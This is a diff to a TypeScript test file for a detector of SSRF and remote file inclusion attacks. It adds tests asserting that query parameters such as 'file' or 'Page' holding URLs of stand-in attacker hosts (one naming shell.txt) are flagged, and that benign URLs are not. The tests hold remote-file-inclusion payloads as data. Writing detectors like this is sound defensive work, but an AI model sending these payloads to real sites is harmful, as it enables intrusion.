@@ -1,6 +1,6 @@
 // Where a URL in a value points (detect/url.ts): SSRF (detect/ssrf.ts) and remote file inclusion
 // (detect/rfi.ts).
-import { q, rule, category } from "../detect/testing";
+import { q, rawQuery, rule, category } from "../detect/testing";
 
 describe("ssrf", () => {
   it("finds metadata endpoints, bare or in URLs", () => {
@@ -46,5 +46,16 @@ describe("rfi", () => {
     expect(category(q("https://shop.example.com/search?q=shoes"))).toBe("none");
     expect(category(q("https://example.com/faq#top"))).toBe("none");
     expect(category(q("\\\\server\\share"))).toBe("none");
+  });
+  it("finds a web URL as the whole value of a parameter named like a file to include", () => {
+    expect(rule(rawQuery("file=http%3A%2F%2Fevil%2Fx"))).toBe("rfi.include-parameter");
+    expect(rule(rawQuery("id=3&Page=https://evil.example/shell.txt"))).toBe("rfi.include-parameter");
+    expect(rule(rawQuery("lang=http://attacker.example/en"))).toBe("rfi.include-parameter");
+  });
+  it("leaves URLs under other names, and URLs inside text under those names, alone", () => {
+    expect(category(rawQuery("url=http://evil/x"))).toBe("none");
+    expect(category(rawQuery("return=https://shop.example.com/cart"))).toBe("none");
+    expect(category(rawQuery("file=see+http://example.com/a"))).toBe("none");
+    expect(category(rawQuery("profile=https://example.com/me"))).toBe("none");
   });
 });
